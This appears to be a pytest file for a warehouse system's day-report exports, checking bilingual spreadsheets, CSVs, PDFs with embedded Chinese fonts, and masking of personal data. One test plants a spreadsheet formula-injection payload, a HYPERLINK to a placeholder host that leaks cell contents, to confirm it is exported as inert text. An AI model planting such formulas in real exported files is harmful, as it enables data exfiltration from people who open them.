"""Rule L2: the report's files open in the tools people use, Chinese included, personal data masked."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from tests.wms.reports.conftest import CUSTOMER_NAME, PHONE, RECIPIENT_NAME
from wms.errors import InvalidInput
from wms.services.reports.day_report import SECTIONS, day_report
from wms.services.reports.exports import export_report, report_tables

PERSONAL = (CUSTOMER_NAME, RECIPIENT_NAME, PHONE)


def _assert_no_personal_data(text: str) -> None:
    for secret in PERSONAL:
        assert secret not in text, secret


def _check_l2_xlsx_has_a_sheet_per_section_typed_cells_and_a_frozen_header(report):
    body, media_type, name = export_report(report, "xlsx", "zh-CN")
    assert media_type.endswith("spreadsheetml.sheet") and name.endswith(".xlsx")
    book = load_workbook(io.BytesIO(body))
    assert len(book.sheetnames) == 1 + len(SECTIONS)
    assert book.sheetnames[:3] == ["概要", "库存", "分时出入库"]
    stock = book["库存"]
    assert [c.value for c in stock[1]] == ["商品编码", "商品名称", "货主编码", "货主", "期初", "入库", "出库", "期末"]
    assert stock.freeze_panes == "A2"
    row = next(r for r in stock.iter_rows(min_row=2, values_only=True) if r[0] == "SKU-1")
    assert row[4:] == (0, 20, 6, 14) and all(isinstance(v, int) for v in row[4:])
    assert stock.column_dimensions["B"].width >= 10
    counts = book["盘点差异"]
    assert counts.freeze_panes == "A2"
    counted_row = next(counts.iter_rows(min_row=2, values_only=True))
    assert [c.value for c in counts[1]][4:9] == ["账面在库", "在周转箱", "货位卡", "实盘", "差异"]
    assert isinstance(counted_row[-1], datetime) and counted_row[4:9] == (16, 1, 17, 14, -1)
    assert counted_row[9] == "已盘点（待审批）"
    reconciliation = book["对账差异"]
    open_rows = list(reconciliation.iter_rows(min_row=2, values_only=True))
    assert [r[4] for r in open_rows] == ["SF1001", "SO-PAY", "SF1002"]
    assert open_rows[0][1:4] == ("快递账单", "计费重量超出", "SF") and open_rows[0][6:] == (3.5, "待处理", 3)
    uncleared = book["未当日清结单据"]
    assert all(isinstance(r[2], datetime | date) for r in uncleared.iter_rows(min_row=2, values_only=True))
    inspections = book["检验"]
    rate = next(inspections.iter_rows(min_row=2, values_only=True))[5]
    assert isinstance(rate, int | float)
    text = "\n".join(str(v) for sheet in book for r in sheet.iter_rows(values_only=True) for v in r if v is not None)
    _assert_no_personal_data(text)
    assert "张*" in text  # the customer hold's target, masked


def _check_l2_xlsx_in_english_and_one_section(report):
    body, _, name = export_report(report, "xlsx", "en", "holds_issued")
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["Summary", "Holds issued"]
    assert name.endswith("-holds_issued.xlsx")


def _check_l2_csv_is_one_section_with_bom_and_header(report):
    body, media_type, name = export_report(report, "csv", "zh-CN")
    assert body.startswith(b"\xef\xbb\xbf") and media_type.startswith("text/csv")
    assert name.endswith("-stock.csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == ["商品编码", "商品名称", "货主编码", "货主", "期初", "入库", "出库", "期末"]
    assert ["SKU-1", "保温杯 500ml", "OWN", "OWN", "0", "20", "6", "14"] in rows
    for section in SECTIONS:
        body, _, _ = export_report(report, "csv", "en", section)
        text = body.decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(text)))[0]
        _assert_no_personal_data(text)
    body, _, _ = export_report(report, "csv", "en", "reconciliation")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert [r[4] for r in rows[1:]] == ["SF1001", "SO-PAY", "SF1002"]
    assert rows[1][1:4] == ["Courier bill", "Billed weight above ours", "SF"] and rows[1][6] == "3.50"


def _check_l2_pdf_has_extractable_chinese_in_an_embedded_cjk_font(report):
    from pypdf import PdfReader

    body, media_type, name = export_report(report, "pdf", "zh-CN")
    assert media_type == "application/pdf" and body.startswith(b"%PDF") and name.endswith(".pdf")
    reader = PdfReader(io.BytesIO(body))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for words in ("日终报表", "杭州一号仓", "库存", "保温杯", "未当日清结单据", "暂缓出货", "盘点差异", "对账差异",
                  "SO-OPEN", "SUP-1", "第 1 页", "货位卡", "已盘点（待审批）", "SF1001", "SO-PAY", "计费重量超出"):
        assert words in text, words
    _assert_no_personal_data(text)
    fonts = {str(font.get_object()["/BaseFont"]) for page in reader.pages
             for font in page["/Resources"]["/Font"].values()}
    assert any("WenQuanYi" in f or "CJK" in f or "Droid" in f for f in fonts), fonts
    # embedded: every font has its program in the file (a subset)
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descriptor = (font["/DescendantFonts"][0].get_object() if "/DescendantFonts" in font else font)
            descriptor = descriptor["/FontDescriptor"].get_object()
            assert any(k in descriptor for k in ("/FontFile", "/FontFile2", "/FontFile3"))


def _check_l2_pdf_in_english(report):
    from pypdf import PdfReader

    body, _, _ = export_report(report, "pdf", "en")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
    assert "End-of-day report" in text and "Page 1 of" in text and "杭州一号仓" in text
    _assert_no_personal_data(text)


def _check_l2_every_section_has_a_table(report):
    tables = report_tables(report, "en")
    assert [t.key for t in tables] == list(SECTIONS)
    assert all(t.columns for t in tables)


def _check_l2_a_text_shaped_like_a_formula_stays_text_in_xlsx_and_csv(report):
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    first = report.reconciliation[0]
    crafted = dataclasses.replace(report, reconciliation=[dataclasses.replace(first, reference=formula),
                                                          *report.reconciliation[1:]])
    book = load_workbook(io.BytesIO(export_report(crafted, "xlsx", "zh-CN")[0]))
    cell = next(c for row in book["对账差异"].iter_rows(min_row=2) for c in row if c.value == formula)
    assert cell.data_type == "s"
    body, _, _ = export_report(crafted, "csv", "zh-CN", "reconciliation")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1][4] == "'" + formula
    body, _, _ = export_report(crafted, "csv", "zh-CN", "count_differences")
    counted = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
    assert counted[4:9] == ["16", "1", "17", "14", "-1"]  # a negative number is no formula: no quote


def _check_l2_export_refuses_an_unknown_format_or_section(report):
    with pytest.raises(InvalidInput):
        export_report(report, "docx")
    with pytest.raises(InvalidInput):
        export_report(report, "csv", section="everything")


def test_l2_exports_of_a_crafted_day_open_and_mask_personal_data(crafted, world):
    """One crafted day (building it is the slow part), every format checked on its report."""
    report = day_report(world.warehouse_id, crafted.day)
    _check_l2_xlsx_has_a_sheet_per_section_typed_cells_and_a_frozen_header(report)
    _check_l2_xlsx_in_english_and_one_section(report)
    _check_l2_csv_is_one_section_with_bom_and_header(report)
    _check_l2_pdf_has_extractable_chinese_in_an_embedded_cjk_font(report)
    _check_l2_pdf_in_english(report)
    _check_l2_every_section_has_a_table(report)
    _check_l2_a_text_shaped_like_a_formula_stays_text_in_xlsx_and_csv(report)
    _check_l2_export_refuses_an_unknown_format_or_section(report)


def test_r8_l3_every_count_and_reconciliation_state_has_its_words_in_both_languages():
    from wms.api.reconciliation.other_routes import TYPES
    from wms.domain.reconciliation import DifferenceStatus, ReconcileKind
    from wms.domain.shipping import CycleCountStatus
    from wms.services.reports.labels import LABELS

    keys = ([f"count.{s.value}" for s in CycleCountStatus] + [f"recon_kind.{k.value}" for k in ReconcileKind]
            + [f"recon_type.{t.value}" for types in TYPES.values() for t in types]
            + [f"recon_status.{s.value}" for s in DifferenceStatus])
    for lang, words in LABELS.items():
        assert [key for key in keys if key not in words] == [], lang
